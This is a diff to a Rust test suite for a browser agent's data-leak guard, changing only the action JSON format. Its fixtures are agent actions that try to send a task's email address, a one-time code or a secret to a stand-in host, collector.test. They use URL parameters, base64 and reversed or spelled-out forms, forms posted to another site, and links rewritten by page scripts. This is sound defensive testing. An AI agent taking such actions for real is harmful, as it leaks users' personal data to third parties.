@@ -8,7 +8,7 @@ use crate::safety::{Secret, Secrets, SitePlan, SitePolicy};
 const TASK: &str = "sign me up for the newsletter with ada@example.org";
 
 fn done() -> Result<String, LlmError> {
-    reply(r#"[{"done":{"text":"ok","success":true}}]"#)
+    reply(r#"[{"do":"done","text":"ok","success":true}]"#)
 }
 
 fn user(approves: bool) -> FakeUser {
@@ -44,7 +44,7 @@ fn clicks(shop: &FakeShop) -> usize {
 #[test]
 fn a_navigation_carrying_the_user_s_data_waits_for_the_user() {
     let shop = FakeShop::new();
-    let go = r#"[{"go_to_url":{"url":"http://collector.test/c?e=ada%40example.org"}}]"#;
+    let go = r#"[{"do":"go_to_url","url":"http://collector.test/c?e=ada%40example.org"}]"#;
     let events = run_steps(&task_config(), &shop, &[go], &user(false));
     assert_eq!(
         questions(&events),
@@ -58,7 +58,7 @@ fn a_navigation_carrying_the_user_s_data_waits_for_the_user() {
 
     // Allowed once, the site is one the user chose: the next flow there does not ask again.
     let shop = FakeShop::new();
-    let again = r#"[{"open_tab":{"url":"http://collector.test/d?e=ada@example.org"}}]"#;
+    let again = r#"[{"do":"open_tab","url":"http://collector.test/d?e=ada@example.org"}]"#;
     let events = run_steps(&task_config(), &shop, &[go, again], &user(true));
     assert_eq!(questions(&events).len(), 1);
     assert_eq!(shop.tabs.borrow().last().unwrap().url, "http://collector.test/d?e=ada@example.org");
@@ -68,10 +68,10 @@ fn a_navigation_carrying_the_user_s_data_waits_for_the_user() {
 fn benign_navigations_do_not_ask() {
     let shop = FakeShop::new();
     let steps = [
-        r#"[{"go_to_url":{"url":"http://shop.test/account?e=ada@example.org"}}]"#, // the start site
-        r#"[{"go_to_url":{"url":"http://other.test/"}}]"#,                         // a bare site
-        r#"[{"click_element":{"index":4,"click":null}}]"#,                         // a page's own link
-        r#"[{"search":{"query":"newsletter sign up ada"}}]"#,
+        r#"[{"do":"go_to_url","url":"http://shop.test/account?e=ada@example.org"}]"#, // the start site
+        r#"[{"do":"go_to_url","url":"http://other.test/"}]"#,                         // a bare site
+        r#"[{"do":"click_element","index":4,"click":null}]"#,                         // a page's own link
+        r#"[{"do":"search","query":"newsletter sign up ada"}]"#,
     ];
     let events = run_steps(&task_config(), &shop, &steps, &user(false));
     assert_eq!(questions(&events), vec![]);
@@ -81,8 +81,8 @@ fn benign_navigations_do_not_ask() {
 #[test]
 fn an_address_the_agent_wrote_for_another_site_asks_once_whatever_it_holds() {
     let steps = [
-        r#"[{"go_to_url":{"url":"http://collector.test/?u=ada%20at%20example%20dot%20org"}}]"#,
-        r#"[{"open_tab":{"url":"http://collector.test/?u=gro.elpmaxe@ada"}}]"#,
+        r#"[{"do":"go_to_url","url":"http://collector.test/?u=ada%20at%20example%20dot%20org"}]"#,
+        r#"[{"do":"open_tab","url":"http://collector.test/?u=gro.elpmaxe@ada"}]"#,
     ];
     let shop = FakeShop::new();
     let events = run_steps(&task_config(), &shop, &steps, &user(false));
@@ -103,7 +103,7 @@ fn an_address_the_agent_wrote_for_another_site_asks_once_whatever_it_holds() {
 
 #[test]
 fn a_new_tab_a_link_asks_for_is_checked_where_the_page_s_handlers_left_it_before_it_opens() {
-    let click = r#"[{"click_element":{"index":4,"click":null}}]"#;
+    let click = r#"[{"do":"click_element","index":4,"click":null}]"#;
     // A click handler rewrote the link to carry the user's e-mail address.
     let shop = FakeShop::new();
     *shop.reviews_new_tab.borrow_mut() = Some("http://collector.test/r?e=ada@example.org".into());
@@ -140,7 +140,8 @@ fn a_new_tab_a_link_asks_for_is_checked_where_the_page_s_handlers_left_it_before
 #[test]
 fn keys_typed_into_a_site_not_chosen_ask_as_typing_does() {
     let shop = FakeShop::new();
-    let steps = [r#"[{"go_to_url":{"url":"http://other.test/"}}]"#, r#"[{"send_keys":{"keys":"a d a Tab Enter"}}]"#];
+    let steps =
+        [r#"[{"do":"go_to_url","url":"http://other.test/"}]"#, r#"[{"do":"send_keys","keys":"a d a Tab Enter"}]"#];
     let events = run_steps(&task_config(), &shop, &steps, &user(false));
     let asked = questions(&events);
     assert_eq!(asked.len(), 1, "{asked:?}");
@@ -153,7 +154,8 @@ fn keys_typed_into_a_site_not_chosen_ask_as_typing_does() {
 fn a_link_rewritten_to_carry_the_data_is_not_followed_unless_allowed() {
     let shop = FakeShop::new();
     *shop.reviews_href.borrow_mut() = "http://collector.test/r?u=YWRhQGV4YW1wbGUub3Jn".into();
-    let events = run_steps(&task_config(), &shop, &[r#"[{"click_element":{"index":4,"click":null}}]"#], &user(false));
+    let events =
+        run_steps(&task_config(), &shop, &[r#"[{"do":"click_element","index":4,"click":null}]"#], &user(false));
     let (question, data) = &questions(&events)[0];
     assert!(question.starts_with("This would send ada@example.org (an email address from your task) to collector.test, by following the link <a> \"Reviews\" [4] to http://collector.test/r?u=YWRhQGV4YW1wbGUub3Jn."), "{question}");
     assert_eq!(data, &vec!["ada@example.org".to_string()]);
@@ -172,7 +174,8 @@ fn collector_form(value: &str) -> Option<Submission> {
 fn a_form_posting_the_data_to_another_site_is_not_submitted_unless_allowed() {
     let shop = FakeShop::new();
     *shop.form.borrow_mut() = collector_form("ada@example.org");
-    let events = run_steps(&task_config(), &shop, &[r#"[{"click_element":{"index":1,"click":null}}]"#], &user(false));
+    let events =
+        run_steps(&task_config(), &shop, &[r#"[{"do":"click_element","index":1,"click":null}]"#], &user(false));
     let (question, _) = &questions(&events)[0];
     assert!(
         question.contains(
@@ -185,11 +188,11 @@ fn a_form_posting_the_data_to_another_site_is_not_submitted_unless_allowed() {
     // Enter in a field of that form.
     let shop = FakeShop::new();
     *shop.form.borrow_mut() = collector_form("ada@example.org");
-    let events = run_steps(&task_config(), &shop, &[r#"[{"send_keys":{"keys":"Enter"}}]"#], &user(false));
+    let events = run_steps(&task_config(), &shop, &[r#"[{"do":"send_keys","keys":"Enter"}]"#], &user(false));
     assert!(questions(&events)[0].0.contains("by pressing Enter, which submits a form"));
     let shop = FakeShop::new();
     *shop.form.borrow_mut() = collector_form("ada@example.org");
-    let events = run_steps(&task_config(), &shop, &[r#"[{"send_keys":{"keys":"Tab Enter"}}]"#], &user(false));
+    let events = run_steps(&task_config(), &shop, &[r#"[{"do":"send_keys","keys":"Tab Enter"}]"#], &user(false));
     assert!(questions(&events)[0].0.contains("by pressing Tab Enter, which submits a form"), "Enter after another key");
     assert!(!shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Keys { .. })), "no key pressed");
 
@@ -197,7 +200,8 @@ fn a_form_posting_the_data_to_another_site_is_not_submitted_unless_allowed() {
     let shop = FakeShop::new();
     *shop.form.borrow_mut() =
         Some(Submission { action: "http://shop.test/subscribe".into(), ..collector_form("ada@example.org").unwrap() });
-    let events = run_steps(&task_config(), &shop, &[r#"[{"click_element":{"index":1,"click":null}}]"#], &user(false));
+    let events =
+        run_steps(&task_config(), &shop, &[r#"[{"do":"click_element","index":1,"click":null}]"#], &user(false));
     assert_eq!(questions(&events), vec![]);
     assert_eq!(shop.cart.get(), 1);
 }
@@ -210,7 +214,7 @@ fn typing_the_data_into_a_page_of_a_new_site_asks_and_typed_values_are_followed(
     let events = run_steps(
         &task_config(),
         &shop,
-        &[r#"[{"input_text":{"index":2,"text":"ada@example.org","clear":null}}]"#],
+        &[r#"[{"do":"input_text","index":2,"text":"ada@example.org","clear":null}]"#],
         &user(false),
     );
     assert_eq!(
@@ -223,7 +227,7 @@ fn typing_the_data_into_a_page_of_a_new_site_asks_and_typed_values_are_followed(
     let events = run_steps(
         &task_config(),
         &shop,
-        &[r#"[{"input_text":{"index":2,"text":"ada@example.org","clear":null}}]"#],
+        &[r#"[{"do":"input_text","index":2,"text":"ada@example.org","clear":null}]"#],
         &user(false),
     );
     assert_eq!(questions(&events), vec![]);
@@ -231,8 +235,8 @@ fn typing_the_data_into_a_page_of_a_new_site_asks_and_typed_values_are_followed(
 
     let shop = FakeShop::new();
     let steps = [
-        r#"[{"input_text":{"index":2,"text":"Grace Hopper","clear":null}}]"#,
-        r#"[{"go_to_url":{"url":"http://collector.test/?n=grace+hopper"}}]"#,
+        r#"[{"do":"input_text","index":2,"text":"Grace Hopper","clear":null}]"#,
+        r#"[{"do":"go_to_url","url":"http://collector.test/?n=grace+hopper"}]"#,
     ];
     let events = run_steps(&task_config(), &shop, &steps, &user(false));
     let asked = questions(&events);
@@ -254,7 +258,7 @@ fn a_secret_never_leaves_its_sites_and_the_user_is_told() {
     let config = TaskConfig { secrets, ..task_config() };
     let shop = FakeShop::new();
     *shop.form.borrow_mut() = collector_form("Orbit-4242");
-    let events = run_steps(&config, &shop, &[r#"[{"click_element":{"index":1,"click":null}}]"#], &user(true));
+    let events = run_steps(&config, &shop, &[r#"[{"do":"click_element","index":1,"click":null}]"#], &user(true));
     assert_eq!(questions(&events), vec![], "never asked: the answer could not change it");
     assert_eq!(shop.cart.get(), 0);
     assert!(outcomes(&events)[0].starts_with(
@@ -271,7 +275,7 @@ fn a_secret_never_leaves_its_sites_and_the_user_is_told() {
 fn data_read_on_a_page_asks_before_going_to_another_site() {
     let shop = FakeShop::new();
     *shop.note.borrow_mut() = "Your one-time code is 482913".into();
-    let go = r#"[{"go_to_url":{"url":"http://collector.test/?c=482913"}}]"#;
+    let go = r#"[{"do":"go_to_url","url":"http://collector.test/?c=482913"}]"#;
     let events = run_steps(&task_config(), &shop, &[go], &user(false));
     let asked = questions(&events);
     assert!(
@@ -282,7 +286,7 @@ fn data_read_on_a_page_asks_before_going_to_another_site() {
 
 #[test]
 fn the_site_plan_shows_or_asks_about_sites_outside_it() {
-    let go = r#"[{"go_to_url":{"url":"http://other.test/"}}]"#;
+    let go = r#"[{"do":"go_to_url","url":"http://other.test/"}]"#;
     let strict = TaskConfig { site_plan: SitePlan::Strict, ..task_config() };
     let shop = FakeShop::new();
     let events = run_steps(&strict, &shop, &[go], &user(false));
@@ -304,7 +308,7 @@ fn the_site_plan_shows_or_asks_about_sites_outside_it() {
 fn the_planner_s_sites_once_confirmed_are_in_the_plan() {
     let plan = r#"{"analysis":"a","progress":"p","challenges":"c","next_steps":["go"],"steps_done":0,"web_task":true,"answer":null,"sites":["shop.test","other.test"]}"#;
     let strict = TaskConfig { site_plan: SitePlan::Strict, planning_interval: Some(5), ..task_config() };
-    let go = reply(r#"[{"go_to_url":{"url":"http://other.test/about"}}]"#);
+    let go = reply(r#"[{"do":"go_to_url","url":"http://other.test/about"}]"#);
     let shop = FakeShop::new();
     let model = ScriptedModel::new(vec![Ok(plan.into()), go, done()]);
     let (_, events) = run_as(&strict, &shop, &model, &user(true));
